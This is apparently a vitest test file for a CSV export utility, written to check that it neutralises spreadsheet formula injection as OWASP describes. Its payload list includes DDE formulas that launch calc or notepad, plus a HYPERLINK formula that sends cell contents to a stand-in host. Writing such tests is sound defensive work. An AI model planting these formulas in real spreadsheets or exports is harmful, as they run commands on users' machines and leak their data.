/**
 * CSV exports neutralise formula injection. Reference: OWASP "CSV Injection"
 * (https://owasp.org/www-community/attacks/CSV_Injection): no cell may begin with `=`, `+`, `-`, `@`,
 * tab (0x09) or carriage return (0x0D); prefixing such a cell with a single quote makes spreadsheets
 * read it as text. The written CSV is read back with csv-parse, an independent RFC 4180 parser.
 */
import fc from 'fast-check'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { neutraliseCell, toCsv } from '../../src/util/csv.ts'

const DANGEROUS = /^[=+\-@\t\r]/

function readBack(csv: string): string[][] {
  return parse(csv, { relax_column_count: false, bom: true }) as string[][]
}

describe('CSV export: formula injection (OWASP)', () => {
  const payloads = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    '+1+cmd|\' /C notepad\'!A0',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    '=1+1',
  ]

  it.each(payloads)('neutralises %j in a text cell', (payload) => {
    const csv = toCsv([{ id: 'x1', note: payload }], ['id', 'note'])
    const [header, row] = readBack(csv)
    expect(header).toEqual(['id', 'note'])
    expect(row![1]).toBe(`'${payload}`)
    expect(DANGEROUS.test(row![1]!)).toBe(false)
  })

  it('neutralises the header too, and nested values serialised as JSON', () => {
    const csv = toCsv([{ '=evil': '@x', nested: { a: '=1' } }])
    const [header, row] = readBack(csv)
    expect(header![0]).toBe("'=evil")
    expect(row![0]).toBe("'@x")
    expect(row![1]).toBe('{"a":"=1"}')
  })

  it('leaves numbers as numbers (a negative number is data, not a formula) and writes non-finite numbers empty', () => {
    const csv = toCsv([{ a: -1.5, b: 0, c: Number.NaN, d: Infinity, e: null, f: undefined }])
    expect(readBack(csv)[1]).toEqual(['-1.5', '0', '', '', '', ''])
  })

  it('keeps safe text unchanged, quoting commas, quotes and line breaks (RFC 4180)', () => {
    const rows = [{ t: 'plain' }, { t: 'a,b' }, { t: 'say "hi"' }, { t: 'two\nlines' }, { t: 'x=1' }, { t: " 'already quoted" }]
    const back = readBack(toCsv(rows, ['t'])).slice(1).map((r) => r[0])
    expect(back).toEqual(rows.map((r) => r.t))
  })

  it('property: any string reads back either unchanged or with one leading apostrophe, and never starts dangerously', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary', maxLength: 40 }), { minLength: 1, maxLength: 8 }), (cells) => {
        const columns = cells.map((_, i) => `c${i}`)
        const row = Object.fromEntries(cells.map((c, i) => [`c${i}`, c]))
        const back = readBack(toCsv([row], columns))[1]!
        expect(back).toHaveLength(cells.length)
        back.forEach((got, i) => {
          const original = cells[i]!
          expect(DANGEROUS.test(got)).toBe(false)
          expect(got).toBe(DANGEROUS.test(original) ? `'${original}` : original)
        })
      }),
      { seed: 9001, numRuns: 200 },
    )
  })

  it('neutraliseCell is idempotent on its output', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 20 }), (s) => {
        const once = neutraliseCell(s)
        expect(neutraliseCell(once)).toBe(once)
      }),
      { seed: 9002, numRuns: 300 },
    )
  })
})
